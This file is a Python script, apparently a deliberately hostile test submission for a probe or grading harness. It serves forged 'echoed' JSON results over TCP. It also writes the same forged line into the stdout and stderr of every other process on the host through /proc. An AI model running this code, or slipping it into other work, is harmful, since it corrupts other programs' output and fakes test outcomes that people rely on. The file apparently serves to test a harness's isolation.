"""A hostile submission: print fake probe results everywhere it can, and answer every request with one.

    python3 faker.py PORT SECONDS

It serves TCP on PORT, answering whatever comes with a JSON line that claims
an echo; it prints that same line on its own standard output; and for
SECONDS it opens the standard output and error of every process on its host
(/proc/PID/fd/1 and 2) to write the line there too, counting the times that
worked.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
import time

FAKE = json.dumps({"outcome": "echoed", "reply": "Hello, world", "errno": None}) + "\n"


def serve(port: int) -> None:
    with socket.create_server(("", port)) as server:
        while True:
            conn, _ = server.accept()
            with conn:
                conn.recv(4096)
                conn.sendall(FAKE.encode())


def forge(seconds: float) -> int:
    forged, deadline = 0, time.monotonic() + seconds
    while time.monotonic() < deadline:
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) == os.getpid():
                continue
            for fd in (1, 2):
                try:
                    with open(f"/proc/{pid}/fd/{fd}", "w") as stream:
                        stream.write(FAKE)
                    forged += 1
                except OSError:
                    pass
        time.sleep(0.002)
    return forged


def main() -> None:
    port, seconds = int(sys.argv[1]), float(sys.argv[2])
    threading.Thread(target=serve, args=(port,), daemon=True).start()
    print(FAKE, end="", flush=True)
    print("forging", flush=True)
    forged = forge(seconds)
    print(FAKE, end="", flush=True)
    print(f"forged into others' output: {forged}", flush=True)
    time.sleep(3600)


if __name__ == "__main__":
    main()
